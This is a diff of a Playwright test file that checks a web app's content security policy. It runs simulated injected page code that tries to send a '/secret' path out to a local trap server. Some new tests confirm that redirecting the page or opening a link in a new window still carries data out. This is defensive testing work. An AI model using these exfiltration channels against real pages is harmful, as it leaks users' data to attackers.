@@ -1,8 +1,12 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, test } from '@playwright/test';
+import { sayOfDrafts } from '@/lib/messages/draft-words';
 
-/** In the page, as an add-on or an injected text would run: every way out of a page that there is. */
+/**
+ * In the page, as an injected text would run: the ways out that a policy can close. Leading the page elsewhere, a new window
+ * and a call between browsers (WebRTC) are closed by none: see the second story, and the page of what is not protected.
+ */
 async function sendEverywhere(trap: string) {
   // Later, and by the page itself: what a test runs directly is let through.
   await new Promise((later) => setTimeout(later));
@@ -51,7 +55,8 @@ async function sendEverywhere(trap: string) {
   await new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)));
 }
 
-test('hostile code in a page finds no way to send anything anywhere', async ({ page }) => {
+/** A server elsewhere that writes down what comes to it. */
+async function openTrap() {
   const reached: string[] = [];
   const trap = createServer((request, response) => {
     reached.push(`${request.method} ${request.url}`);
@@ -63,7 +68,17 @@ test('hostile code in a page finds no way to send anything anywhere', async ({ p
   });
   await new Promise<void>((ready) => trap.listen(0, '127.0.0.1', ready));
   const { port } = trap.address() as AddressInfo; // listening on a port, so it is no pipe's name
-  const address = `http://127.0.0.1:${port}`;
+  const close = () => {
+    trap.closeAllConnections();
+    trap.close();
+  };
+  return { reached, address: `http://127.0.0.1:${port}`, close };
+}
+
+test('hostile code in a page finds no way to send anything anywhere while the page stays', async ({
+  page,
+}) => {
+  const { reached, address, close } = await openTrap();
   try {
     for (const path of ['/', '/referral/', '/drafts/']) {
       const refused: string[] = [];
@@ -82,7 +97,33 @@ test('hostile code in a page finds no way to send anything anywhere', async ({ p
     await page.evaluate(sendEverywhere, address);
     await expect.poll(() => reached.filter((one) => one.includes('/secret')).length).toBeGreaterThan(8);
   } finally {
-    trap.closeAllConnections();
-    trap.close();
+    close();
   }
 });
+
+// Not as it should be, but as browsers are: the help page says so, and this fails on the day that it is no longer true.
+for (const [way, leave] of [
+  ['leads the page elsewhere', (secret: string) => void location.assign(secret)],
+  [
+    'opens a window by a link',
+    (secret: string) => {
+      const link = document.createElement('a');
+      Object.assign(link, { href: secret, target: '_blank', rel: 'noopener' });
+      link.click();
+    },
+  ],
+] as const) {
+  test(`what no policy stops is said: hostile code that ${way} is seen, and takes with it what it has read`, async ({
+    page,
+  }) => {
+    const { reached, address, close } = await openTrap();
+    try {
+      await page.goto('/help/');
+      await expect(page.getByText(sayOfDrafts('protection.not-2'))).toBeVisible();
+      await page.evaluate(leave, `${address}/secret`);
+      await expect.poll(() => reached.some((one) => one.includes('/secret'))).toBe(true);
+    } finally {
+      close();
+    }
+  });
+}
